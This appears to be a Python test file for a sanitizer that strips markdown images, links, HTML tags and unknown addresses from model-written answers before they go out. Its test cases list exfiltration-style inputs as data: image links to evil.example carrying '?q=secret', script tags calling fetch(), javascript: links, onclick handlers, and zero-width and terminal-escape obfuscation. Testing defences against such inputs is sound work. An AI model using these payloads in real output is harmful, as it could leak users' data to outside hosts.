"""What a model wrote goes out without anything that loads, calls or hides."""

from __future__ import annotations

import re
from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st

from query_api.answering.outgoing import REMOVED, Outgoing, addresses

KNOWN = addresses(["See https://docs.example/page, (www.example.org) or ftp://files.example/a_(b)."])


def out(*pieces: str) -> str:
    outgoing = Outgoing(KNOWN)
    return "".join([*map(outgoing.feed, pieces), outgoing.finish()])


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("![a](https://evil.example/?q=secret)", f"! [a] ({REMOVED})"),
        ("![a](//evil.example/x.png)", "! [a] (//evil.example/x.png)"),
        ("![a](https://docs.example/page)", "! [a] (https://docs.example/page)"),
        ("![a][r]\n\n[r]: https://evil.example/p", f"! [a][r]\n\n[r] : {REMOVED}"),
        ("[click](https://evil.example)", f"[click] ({REMOVED})"),
        ("[click](javascript:alert(1))", "[click] (javascript:alert(1))"),
        ("!\u200b[a]\u200b(ht\u200btps://evil.example)", f"! [a] ({REMOVED})"),
        ('<img src="https://evil.example/x">', f'< img src="{REMOVED}">'),
        ("<img/src=//evil.example>", "< img/src=//evil.example>"),
        ("<script>fetch('https://evil.example')</script>", f"< script>fetch('{REMOVED}')</script>"),
        ("<x.y onclick=alert(1)>", "< x.y onclick=alert(1)>"),
        ("<x中 onclick=alert(1)>", "< x中 onclick=alert(1)>"),
        ("Map<String, Integer> is <b>bold</b>", "Map< String, Integer> is <b>bold</b>"),
        ("go to http://evil.example/a?b=c, now", f"go to {REMOVED}, now"),
        ("WWW.EVIL.EXAMPLE/x and HTTPS://evil.example", f"{REMOVED} and {REMOVED}"),
        ("https://docs.example/page?q=secret", REMOVED),
        ('https://docs.example/page"secret', REMOVED),
        ("https://docs.example/page机密", REMOVED),
        ("https://docs.example/page. And www.example.org!", "https://docs.example/page. And www.example.org!"),
        ("(https://docs.example/page)[1][2]", "(https://docs.example/page)[1][2]"),
        ("\x1b]0;title\x07\u202eabc", "]0;titleabc"),
        ("vec![1] and x[0](y) and d: dict[str, int]: pass", "vec! [1] and x[0] (y) and d: dict[str, int] : pass"),
        ("a < b, List<String> and #include <stdio.h>", "a < b, List<String> and #include <stdio.h>"),
        ("答案是四十周。详见 https://evil.example", f"答案是四十周。详见 {REMOVED}"),
    ],
)
def test_nothing_loads_and_no_address_is_the_models_own(written: str, shown: str) -> None:
    assert out(written) == shown
    assert out(*written) == shown, "whatever the pieces"


PARTS = [
    *"ab w.:/!?[]()<>img \n'=中\u200b1",
    "https://",
    "www.",
    "![",
    "](",
    "<img ",
    "<x",
    "https://docs.example/page",
]
TEXT = st.lists(st.sampled_from(PARTS), max_size=40).map("".join)


@given(TEXT, st.lists(st.integers(0, 120), max_size=6))
def test_the_result_does_not_depend_on_the_pieces(text: str, cuts: list[int]) -> None:
    places = sorted({0, len(text), *(cut for cut in cuts if cut < len(text))})
    pieces = [text[a:b] for a, b in pairwise(places)]

    assert out(*pieces) == out(text)


@given(TEXT)
def test_whatever_is_written_no_syntax_and_no_foreign_address_comes_out(text: str) -> None:
    shown = out(text)

    assert "![" not in shown
    assert "](" not in shown
    assert "]:" not in shown
    assert re.search(r"<[A-Za-z][^\s<>/]*[\s/]", shown) is None
    assert "\u200b" not in shown
    assert addresses([shown]) <= KNOWN | {""}


@given(TEXT)
def test_offsets_follow_their_characters(text: str) -> None:
    outgoing = Outgoing(KNOWN)
    shown = outgoing.feed(text) + outgoing.finish()

    placed = [outgoing.placed(offset) for offset in range(len(text) + 1)]

    assert placed == sorted(placed)
    assert all(0 <= place <= len(shown) for place in placed)
    if REMOVED not in shown:
        for offset, character in enumerate(text):
            assert character == "\u200b" or shown[placed[offset]] == character
